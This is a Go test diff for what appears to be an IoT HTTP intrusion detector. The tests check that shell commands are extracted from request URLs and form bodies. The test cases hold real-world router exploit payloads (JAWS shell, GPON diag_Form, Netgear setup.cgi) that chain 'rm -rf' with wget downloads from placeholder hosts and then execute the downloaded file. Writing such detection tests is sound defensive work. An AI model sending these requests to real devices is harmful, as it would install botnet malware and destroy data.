@@ -1,6 +1,8 @@
 package iothttp
 
 import (
+	"net/http"
+	"net/url"
 	"reflect"
 	"strings"
 	"testing"
@@ -77,6 +79,54 @@ func FuzzExtract(f *testing.F) {
 				}
 				if utf8.ValidString(inj.Value) && len(c) < maxCommandLen && !strings.Contains(inj.Value, c) {
 					t.Fatalf("command %q is not in the value %q", c, inj.Value)
+				}
+			}
+		}
+		if n > maxCommands {
+			t.Fatalf("%d commands", n)
+		}
+	})
+}
+
+func TestGenericInjections(t *testing.T) {
+	for _, tc := range []struct {
+		target, ctype, body string
+		want                []string
+	}{
+		{"/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.5/jaws;sh+/tmp/jaws", "", "",
+			[]string{"cd /tmp", "rm -rf *", "wget http://203.0.113.5/jaws", "sh /tmp/jaws"}},
+		{"/GponForm/diag_Form?images/", "", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.6/gpon+-O+/tmp/g`;sh+/tmp/g&ipv=0",
+			[]string{"busybox wget http://203.0.113.6/gpon -O /tmp/g"}},
+		{"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.8/n+-O+/tmp/n&curpath=/&currentsetting.htm=1", "", "",
+			[]string{"rm -rf /tmp/*", "wget http://203.0.113.8/n -O /tmp/n"}},
+		{"/index.html?lang=en&page=2", "", "", nil},
+	} {
+		r, _ := http.NewRequest("POST", "http://198.51.100.1"+tc.target, strings.NewReader(tc.body))
+		if tc.ctype != "" {
+			r.Header.Set("Content-Type", tc.ctype)
+		}
+		var got []string
+		for _, inj := range genericInjections(r, []byte(tc.body)) {
+			got = append(got, inj.Commands...)
+		}
+		if !reflect.DeepEqual(got, tc.want) {
+			t.Errorf("%s: got %q, want %q", tc.target, got, tc.want)
+		}
+	}
+}
+
+// FuzzGeneric: the query and form scan never panics and stays within its
+// bounds.
+func FuzzGeneric(f *testing.F) {
+	f.Add("cd+/tmp;wget+http://x/y", "a=1&b=`sh+x`")
+	f.Add("%zz;rm+-rf+/", "dest_host=$(busybox+wget+x)&%")
+	f.Fuzz(func(t *testing.T, query, body string) {
+		r := &http.Request{Method: "POST", URL: &url.URL{Path: "/x", RawQuery: query}, Header: http.Header{}}
+		n := 0
+		for _, inj := range genericInjections(r, []byte(body)) {
+			for _, c := range inj.Commands {
+				if n++; c == "" || len(c) > maxCommandLen {
+					t.Fatalf("command %q", c)
 				}
 			}
 		}
